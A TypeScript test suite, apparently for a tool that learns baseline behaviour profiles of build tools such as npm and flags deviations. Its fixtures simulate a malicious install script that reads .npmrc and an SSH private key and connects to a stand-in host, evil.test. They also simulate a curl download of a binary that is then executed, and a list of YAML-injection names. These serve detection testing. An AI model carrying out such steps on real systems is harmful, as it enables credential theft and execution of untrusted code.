import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { assertApplies } from '../../../src/baseline/learn/learned-profile.ts';
import { learnReview, plainReview } from '../../../src/report/learn-review.ts';
import { learnedYaml } from '../../../src/report/learned-yaml.ts';
import type { Scenario } from '../../pipeline/scenario.ts';
import {
  learnedFrom,
  patternsOf,
  profileOf,
  profiles,
  type Run,
  reread,
  scenario,
  taught,
  taughtBy,
  withProfile,
} from './taught.ts';

const packages = { '/w': 'project', '/w/node_modules/p': 'p', '/w/node_modules/q': 'q' };

/** `npm ci` that installs p, whose script may do more. */
const install =
  (more: (world: Scenario, script: ReturnType<Scenario['run']>) => void = () => undefined) =>
  (world: Scenario): void => {
    const npm = world.run('npm ci');
    npm.connect('192.0.2.7', 443, 'npm.test').create('/w/node_modules/p/index.js');
    npm.create('/home/u/.npm/_logs/2026-11-28T05_24_32_727Z-debug-0.log');
    const script = npm.starts('sh -c x', { cwd: '/w/node_modules/p' });
    script.create('/w/node_modules/p/build/out');
    more(world, script);
    script.exit();
    npm.exit();
  };
const clean: Run = { packages, acts: install() };

/** A script of p that steals: it reads two credentials and connects. */
const theft: Run = {
  packages,
  acts: install((_, script) => {
    script.read('/home/u/.npmrc').read('/home/u/.ssh/id_rsa').connect('203.0.113.9', 443, 'evil.test');
    script.starts('/w/node_modules/p/dropped').create('/w/node_modules/p/after');
  }),
};

const review = (runs: readonly Run[], tool: string, allow: readonly string[] = []): string =>
  learnReview(
    { learned: learnedFrom(runs, tool, allow), before: profileOf(tool), profiles, skipped: [], lossy: 0, confined: [] },
    plainReview,
  );

test('a learned profile says what was seen, in the words of places, and judges its own recordings clean', () => {
  const learned = learnedFrom([clean, clean], 'npm');
  const { rights, roles, status, learned: from } = learned.profile;
  assert.equal(status, 'experimental');
  assert.deepEqual(from, { runs: 2, projects: 1 });
  assert.deepEqual(rights, [
    {
      op: ['create'],
      path: [`\${cache:npm}/_logs/????-??-??T??_??_??_???Z-debug-0.log`, '${workspace}/node_modules/**'],
      seen: 2,
    },
    { op: ['connect'], to: ['${registry:npm}:443'], seen: 2 },
    { op: ['exec'], tool: ['sh'], seen: 2 },
  ]);
  assert.deepEqual(roles?.lifecycle?.rights, [{ op: ['create'], path: ['${package}/**'], by: ['sh'], seen: 2 }]);
  const again = scenario(clean, { profiles: withProfile(reread(learned)) }).judge();
  assert.deepEqual(again.rules, []);
});

test('what was not seen is a deviation whose confidence is n/(n+5), and the finding says from how many runs', () => {
  const stranger: Run = {
    packages,
    acts: (world) => void world.run('npm ci').connect('203.0.113.9', 443, 'other.test'),
  };
  for (const [runs, confidence] of [
    [1, 1 / 6],
    [5, 0.5],
    [45, 0.9],
  ] as const) {
    const profile = learnedFrom(
      Array.from({ length: runs }, () => clean),
      'npm',
    ).profile;
    const { document, finding } = scenario(stranger, { profiles: withProfile(profile) }).judge();
    const found = finding('new-host');
    assert.deepEqual([found.baseline, found.runs], ['npm', runs]);
    assert.ok(Math.abs((found.c ?? 0) - confidence) < 1e-12, `${found.c}`);
    assert.equal(document.invocations[0]?.baseline.runs, runs);
  }
  const stable = { ...learnedFrom([clean], 'npm').profile, status: 'stable' as const };
  const byHand = scenario(stranger, { profiles: withProfile(stable) })
    .judge()
    .finding('new-host');
  assert.equal(byHand.c, 0.9);
  assert.equal(scenario(stranger).judge().finding('new-host').runs, undefined);
});

test('what one package does in its own directory is learned for every package, and no more than it did there', () => {
  const { roles } = learnedFrom([clean], 'npm').profile;
  assert.deepEqual(roles?.lifecycle?.rights, [{ op: ['create'], path: ['${package}/**'], by: ['sh'], seen: 1 }]);
  const profiles = withProfile(learnedFrom(Array(5).fill(clean), 'npm').profile);
  const judged = (path: string) =>
    scenario({ packages, acts: install((_, script) => void script.create(path)) }, { profiles }).judge().rules;
  assert.deepEqual(judged('/w/node_modules/p/lib/x.js'), []);
  assert.deepEqual(judged('/w/node_modules/q/lib/x.js'), ['create-source']);
});

test('core utilities and compilers are learned as a whole, and other programs are not', () => {
  const builds = (...argvs: string[]): Run => ({
    packages,
    acts: install((_, script) => {
      for (const argv of argvs) script.starts(argv);
    }),
  });
  const learned = learnedFrom(Array(5).fill(builds('cp a b', 'gcc a.c')), 'npm');
  const execs = learned.profile.roles?.lifecycle?.rights.flatMap(({ tool = [] }) => tool);
  assert.deepEqual(execs, ['class/compiler', 'class/coreutils']);
  const profiles = withProfile(reread(learned));
  assert.deepEqual(scenario(builds('mkdir x', 'g++ x.cc', 'ld x.o'), { profiles }).judge().rules, []);
  assert.deepEqual(scenario(builds('git status'), { profiles }).judge().rules, ['exec-outside']);
  const copied = builds('/w/node_modules/p/bin/cp a b', '/tmp/gcc a.c');
  assert.ok(scenario(copied, { profiles }).judge().rules.includes('exec-outside'), 'what is merely called so is none');
});

test('with a learned profile a build may still work where it was started, beside the workspace, and nowhere else', () => {
  const clones = (path: string): Run => ({
    packages,
    acts: (world) => void world.run('sh -c x').starts('npm ci', { cwd: '/home/u/clone' }).create(path).chmod(path),
  });
  const profiles = withProfile(learnedFrom(Array(5).fill(clean), 'npm').profile);
  assert.deepEqual(scenario(clones('/home/u/clone/node_modules/p/x'), { profiles }).judge().rules, []);
  const elsewhere = scenario(clones('/home/u/other/x'), { profiles }).judge();
  assert.deepEqual(elsewhere.rules.toSorted(), ['chmod-exec', 'write-outside']);
});

test('what a package manager installs is dropped only for a baseline of enough runs', () => {
  const installs = (by: 'npm' | 'script'): Run => ({
    packages,
    acts: (world) => {
      const step = world.run('sh -c x');
      const npm = step.starts('npm ci', { cwd: '/w' });
      const actor = by === 'npm' ? npm : npm.starts('sh -c x', { cwd: '/w/node_modules/p' });
      actor.create('/srv/tools/app');
      step.starts('/srv/tools/app');
    },
  });
  const dropped = (runs: number, by: 'npm' | 'script'): boolean => {
    const { profile } = learnedFrom(Array(runs).fill(clean), 'npm');
    return scenario(installs(by), { profiles: withProfile(profile) })
      .judge()
      .rules.includes('exec-dropped');
  };
  assert.deepEqual([dropped(4, 'npm'), dropped(5, 'npm')], [false, true]);
  assert.deepEqual(
    [dropped(4, 'script'), dropped(5, 'script')],
    [true, true],
    'a package’s script is no package manager',
  );
});

test('an attack is not blessed: nothing of its role is learned, and the review names the findings', () => {
  const learned = learnedFrom([clean, theft], 'npm');
  const { outcome } = taught(theft);
  const invariant = outcome.finding('credential-egress').id;
  assert.deepEqual(reread(learned).roles?.lifecycle?.rights, [
    { op: ['create'], path: ['${package}/**'], by: ['sh'], seen: 1 },
  ]);
  const text = learnedYaml(learned);
  assert.doesNotMatch(text, /evil|ssh|npmrc|after|dropped/);
  const said = review([clean, theft], 'npm');
  assert.match(
    said,
    new RegExp(`${invariant} in role lifecycle, in 1 run: an invariant was broken; nothing was learned`),
  );
  for (const rule of ['secret-ssh', 'secret-npm', 'new-host'])
    assert.match(said, new RegExp(`${outcome.finding(rule).id} in role`));
  const again = scenario(theft, { profiles: withProfile(learned.profile) }).judge();
  assert.equal(again.document.decision, 'fail');
  const alone = learnedFrom([theft], 'npm');
  assert.equal(alone.profile.roles?.lifecycle?.rights.length, profileOf('npm')?.roles?.lifecycle?.rights.length);
  assert.deepEqual(alone.untouched, ['lifecycle']);
});

test('what the baseline of a known tool forbids is left out, until somebody allows the finding', () => {
  const run: Run = {
    packages,
    acts: (world) => void world.run('npm ci').connect('203.0.113.9', 8443, 'mirror.company.test'),
  };
  const { id } = taught(run).outcome.finding('new-host');
  assert.deepEqual(learnedFrom([run], 'npm').profile.rights, []);
  assert.match(
    review([run], 'npm'),
    new RegExp(`${id}, in 1 run: the baseline.* forbids it. To learn it all the same: --allow ${id}`),
  );
  assert.deepEqual(learnedFrom([run], 'npm', [id]).profile.rights, [
    { op: ['connect'], to: ['mirror.company.test:8443'], seen: 1 },
  ]);
  assert.match(review([run], 'npm', [id]), /Added to the profile there was\n- connect mirror\.company\.test:8443/);
  // zones, invariants and what was dropped are never learned, whoever allows them
  const attack = taught(theft).outcome.document.findings.map((one) => one.id);
  assert.doesNotMatch(learnedYaml(learnedFrom([theft], 'npm', attack)), /evil|ssh\/|after/);
});

test('learning into a profile keeps what a person wrote of it, and only what nothing allows any more is gone', () => {
  const before = profileOf('npm');
  const learned = learnedFrom([clean], 'npm').profile;
  assert.deepEqual(learned.references, before?.references);
  assert.deepEqual(learned.falsePositives, before?.falsePositives);
  const [, gone = ''] = review([clean], 'npm').split('and now gone\n');
  const inClass = profileOf('class/package-manager')?.rights.flatMap(({ path = [] }) => path) ?? [];
  assert.ok(inClass.includes('${tmp}/**'), 'the class allows it');
  assert.match(gone, /^- /);
  assert.doesNotMatch(gone, /^- (?!in role)[a-z, ]* \$\{tmp\}\/\*\*$/m, 'the class still allows it');
});

test('a tool without a profile is learned from nothing, and its program is found where it lay', () => {
  const acts = (world: Scenario): void => {
    const tool = world.run('/usr/bin/deployer');
    tool.connect('203.0.113.9', 8443, 'api.company.test').connect('198.51.100.7', 9000).create('/w/out/app.bin');
    tool.listen('0.0.0.0', 8080).starts('/usr/bin/helper-tool');
    tool.modify('/home/other/.cache/x').read('/home/u/.aws/credentials');
  };
  const learned = learnedFrom([{ acts }], 'deployer');
  assert.deepEqual(learned.profile.match, { entry: ['/usr/bin/deployer'] });
  assert.deepEqual(patternsOf(learned.profile).sort(), [
    '${workspace}/out/app.bin',
    '/home/?*/.cache/x',
    '/usr/bin/helper-tool',
    '0.0.0.0:8080',
    '198.51.100.7:9000',
    'api.company.test:8443',
  ]);
  const { rules } = scenario({ acts }, { profiles: withProfile(reread(learned)) }).judge();
  assert.deepEqual(rules, ['secret-aws'], 'only what is never learned is left');
  const built = learnedFrom([{ acts: (world) => void world.run('/w/built').create('/w/x') }], 'built');
  assert.throws(() => assertApplies(built.profile), /lies where jobs build or download/);
  assert.throws(() => learnedFrom([clean], 'unheard-of'), /no recording shows/);
});

test('a right seen once in 300 runs, or by one author, or by forks only, is shown as such', () => {
  const runs = Array.from({ length: 300 }, (_, index): Run => {
    const author = `author${index % 3}`;
    const acts = (world: Scenario): void => {
      const tool = world.run('/usr/bin/deployer').create('/w/out/app');
      if (index === 7) tool.connect('203.0.113.9', 443, 'once.test');
      if (index % 3 === 1 && index > 20) tool.create('/w/poison/pill');
      if (index > 280) tool.create('/w/forked/x');
    };
    return { author, repository: `o/r${index % 2}`, fork: index > 280, acts };
  });
  const learned = learnedFrom(runs, 'deployer');
  assert.deepEqual(learned.profile.learned, { runs: 300, projects: 2, authors: 3 });
  const text = learnedYaml(learned);
  assert.match(
    text,
    /# seen in 1 of 300 runs, by one author only\n *- \{ op: \[ connect \], to: \[ once\.test:443 \], seen: 1 \}/,
  );
  assert.match(text, /# seen in 93 of 300 runs, by one author only\n.*poison\/pill/);
  assert.match(text, /# seen in 19 of 300 runs, in pull requests from forks only\n.*forked\/x/);
  assert.match(text, /^ *- \{ op: \[ create \], path: \[ "\$\{workspace\}\/out\/app" \], seen: 300 \}$/m);
  assert.equal(reread(learned).rights.length, 4);
  const said = review(runs, 'deployer');
  assert.match(said, /^Shown by one author or by forks only\n(- .*\n){3}/m);
  assert.match(said, /at most 1\.0 % of runs like these \(rule of three\)/);
});

test('many siblings become a wildcard, with the evidence for it, and never wider than their place', () => {
  const acts = (world: Scenario): void => {
    const tool = world.run('/usr/bin/deployer');
    for (let n = 0; n < 40; n++)
      tool
        .create(`/w/obj/part${n}.o`)
        .create(`/w/gen/d${n}/x`)
        .create(`/w/gen/d${n}/y/z`)
        .create(`/srv/data/f${n}`)
        .create(`/srv/one${n}`)
        .create(`/home/u/dot${n}`)
        .connect('203.0.113.9', 9000 + n, 'api.company.test');
    for (let n = 0; n < 7; n++) tool.create(`/w/few/f${n}`);
  };
  const learned = learnedFrom([{ acts }], 'deployer');
  const patterns = patternsOf(learned.profile);
  for (const pattern of [
    '${workspace}/obj/*.o',
    '${workspace}/gen/**',
    '/srv/data/*',
    'api.company.test:*',
    '${workspace}/few/f6',
  ])
    assert.ok(patterns.includes(pattern), `${pattern} is not among\n${patterns.join('\n')}`);
  assert.equal(
    patterns.filter((one) => /^\/srv\/one\d+$/.test(one)).length,
    40,
    'nothing becomes a wildcard right below /',
  );
  assert.equal(patterns.filter((one) => /^\$\{home\}\/dot\d+$/.test(one)).length, 40, 'nor in a home');
  const wide = learned.proposal.widenings.find(({ pattern }) => pattern === '${workspace}/gen/**');
  assert.equal(wide?.runs, 1);
  assert.deepEqual(wide?.examples, ['${workspace}/gen/d0/x', '${workspace}/gen/d0/y/z', '${workspace}/gen/d1/x']);
  assert.ok(wide.objects > 50 && wide.objects < 120 && !wide.exact, `${wide.objects} of 80`);
  const objects = learned.proposal.widenings.find(({ pattern }) => pattern === '${workspace}/obj/*.o');
  assert.ok(objects && objects.objects > 25 && objects.objects < 60, `${objects?.objects} of 40`);
  assert.match(
    review([{ acts }], 'deployer'),
    /create \$\{workspace\}\/gen\/\*\*: for about \d+ objects in 1 run, such as/,
  );
  assert.deepEqual(scenario({ acts }, { profiles: withProfile(reread(learned)) }).judge().rules, []);
});

const hostile = [
  'x\n  - evil: true',
  '# comment',
  '- { op: [exec] }',
  '\'"',
  '*',
  '**',
  '?',
  '${home}',
  '&a',
  '!!js',
  '\u202e',
  '%YAML 2.0',
  '---',
  '\\',
  'a: b',
  '\ue000',
];

test('hostile names stay names: in YAML, in its comments, in the review', () => {
  const acts = (world: Scenario): void => {
    const tool = world.run('/usr/bin/deployer');
    for (const name of hostile) tool.create(`/w/h/${name}/f`).connect('203.0.113.9', 443, name);
    tool.create(`/w/${'long'.repeat(400)}`);
  };
  const runs = [
    { acts },
    ...Array.from({ length: 60 }, () => ({
      author: 'a',
      acts: (world: Scenario) => void world.run('/usr/bin/deployer').create('/w/ok'),
    })),
  ];
  const learned = learnedFrom(runs, 'deployer');
  assert.deepEqual(reread(learned), learned.profile);
  const comments = learnedYaml(learned)
    .split('\n')
    .filter((line) => /^\s*#/.test(line));
  for (const line of comments) assert.match(line, /^\s*# (Learned by|seen in \d+ of 61 runs(, by one author only)?$)/);
  for (const line of review(runs, 'deployer').split('\n')) assert.match(line, /^$|^[A-Z]|^- /);
  const patterns = patternsOf(learned.profile);
  assert.ok(!patterns.some((one) => /^\/\*\*?$|\*:\*|\$\{home\}|long/.test(one)), patterns.join('\n'));
  assert.match(review(runs, 'deployer'), /unlearned-name/);
  const plain = scenario({ acts }, { profiles: withProfile(reread(learned)) }).judge();
  assert.ok(
    !plain.rules.includes('create-source') ||
      plain.document.findings.every(
        ({ rule, seen }) => rule !== 'create-source' || seen.targets.every((one) => one.includes('long')),
      ),
  );
});

test('property: what is learned is never everything, names no place of the user, and judges its own run clean', () => {
  const name = fc.oneof(
    fc.constantFrom(...hostile, 'a', 'b.o', '1.2.3'),
    fc.nat(60).map((n) => `n${n}`),
  );
  const root = fc.constantFrom(
    '/w',
    '/tmp',
    '/home/u',
    '/home/u/.cache',
    '/home/bob',
    '',
    '/srv',
    '/opt/hostedtoolcache/x',
  );
  const path = fc
    .tuple(root, fc.array(name, { minLength: 1, maxLength: 3 }))
    .map(([at, rest]) => `${at}/${rest.join('/')}`);
  const kind = fc.constantFrom('file.create', 'file.modify', 'file.delete', 'file.chmod', 'file.mkdir');
  fc.assert(
    fc.property(fc.array(fc.tuple(kind, path), { minLength: 1, maxLength: 60 }), (events) => {
      const run: Run = {
        acts: (world) => {
          const tool = world.run('/usr/bin/deployer');
          for (const [act, at] of events) tool.does(act, { path: at, mode: 0o644 });
        },
      };
      const { outcome } = taught(run);
      const learned = learnedFrom([run], 'deployer');
      for (const pattern of patternsOf(reread(learned))) {
        assert.doesNotMatch(
          pattern,
          /^\/?\*|^\*:|:\*:\*|^\/(w|tmp|home\/(u|bob))(\/|$)|^\/(?!home\/)[^/]*\/[*?.]*\*[*?.]*(\/|$)|^\$\{home\}\/[*?.]*\*[*?.]*$|^\$\{[^}]*\}\/\?\*/,
        );
      }
      const refused = new Set([...learned.support.refused.values()].map(({ finding }) => finding));
      const again = scenario(run, { profiles: withProfile(reread(learned)) }).judge();
      const [zones] = [outcome.document.findings.filter(({ id }) => refused.has(id)).map(({ rule }) => rule)];
      for (const { rule, seen } of again.document.findings)
        assert.ok(zones.includes(rule), `${rule} ${seen.targets.join(' ')}\n${learnedYaml(learned)}`);
    }),
    { numRuns: 200 },
  );
});

test('the run of a program that was dropped teaches nothing, and a look-alike is not the tool', () => {
  const acts = (world: Scenario): void => {
    const shell = world.run('bash x.sh', { cwd: '/w' });
    shell.starts('curl -o /tmp/tool https://x.test').create('/tmp/tool').exit();
    shell.starts('/tmp/tool').create('/w/by-dropped').starts('/usr/bin/deployer').create('/w/by-its-child');
    shell.starts(['node', '/tmp/npm/bin/npm-cli.js', 'ci']).create('/w/node_modules/fake');
  };
  const supports = taughtBy([{ acts }]);
  for (const name of ['tool', 'deployer', 'npm']) assert.equal(supports.tools.get(name)?.runs.size ?? 0, 0, name);
  assert.deepEqual(
    [...(supports.tools.get('deployer')?.refused.values() ?? [])].map(({ rule, tainted }) => [rule, tainted]),
    [['exec-dropped', true]],
  );
});
